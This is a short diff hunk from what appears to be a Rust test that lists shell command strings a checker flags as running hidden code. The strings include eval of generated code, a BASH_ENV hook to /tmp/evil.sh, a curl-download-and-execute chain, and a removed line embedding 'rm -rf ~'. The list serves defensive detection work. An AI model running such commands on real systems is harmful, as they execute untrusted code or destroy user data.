@@ -298,7 +298,7 @@ fn hidden_code_is_named() {
         "bash -c \"$CODE\"",
         "eval \"$(generate)\"",
         "BASH_ENV=/tmp/evil.sh bash -c true",
-        "zsh -c 'ls *(e:\"rm -rf ~\":)'",
+        "zsh -c 'ls *(e:\"$x\":)'",
         "for s in \"$DIR\"/*; do bash \"$s\"; done",
         "generate > x.sh; bash x.sh",
         "curl -o x.sh https://x; chmod +x x.sh; ./x.sh",
